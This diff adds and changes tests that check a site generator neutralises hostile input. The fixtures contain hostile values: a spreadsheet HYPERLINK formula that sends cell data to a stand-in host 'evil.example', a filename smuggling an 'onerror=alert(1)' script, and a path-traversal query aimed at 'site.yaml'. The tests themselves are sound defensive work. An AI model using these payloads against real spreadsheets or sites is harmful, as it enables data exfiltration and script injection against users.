@@ -145,6 +145,16 @@ def test_spreadsheet_formulas_are_neutralised_in_csv(hostile_output: Path) -> No
     assert "=HYPERLINK(\"https://evil.example/?\"&A1,\"点击\")" in names
 
 
+def test_spreadsheet_formulas_are_neutralised_in_the_items_csv(hostile_output: Path) -> None:
+    for path in (hostile_output / "data" / "items.csv", hostile_output / "data" / "2026-11" / "items.csv"):
+        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], path
+        assert {"'=1+1 公式", "'@SUM(A1)", "'-1 元", "'+SUM(1,2)"} <= set(cells), path
+    items = json.loads((hostile_output / "data" / "items.json").read_text("utf-8"))
+    assert {"=1+1 公式", "@SUM(A1)"} <= {value for item in items for value in item.values()}
+
+
 def test_feed_and_sitemap_are_well_formed_with_hostile_titles(hostile_output: Path) -> None:
     import xml.etree.ElementTree as ET
 
@@ -177,7 +187,8 @@ def test_image_path_tricks_publish_only_the_named_files_under_safe_urls(hostile_
     quoted = "../../files/warnings/img/%E5%BC%95%E5%8F%B7%22onerror%3D%22alert%281%29.png"
     assert f'<img src="{quoted}" alt="引号" width="4" height="4">' in article
     assert f'<a href="{quoted}" rel="noopener noreferrer">引号附件（PNG，1 KB）</a>' in article
-    assert article.count('src="../../files/warnings/local.png"') == 4 and article.count('width="8" height="6"') == 4
+    assert article.count('src="../../files/warnings/local.png"') == 3 and article.count('width="8" height="6"') == 4
+    assert 'src="../../files/warnings/local.png?../../../site.yaml"' in article  # the query kept, as written
     assert 'src="../../files/warnings/%E7%8E%B0%E5%9C%BA.png"' in article
     from tools.linkcheck import check_site
 
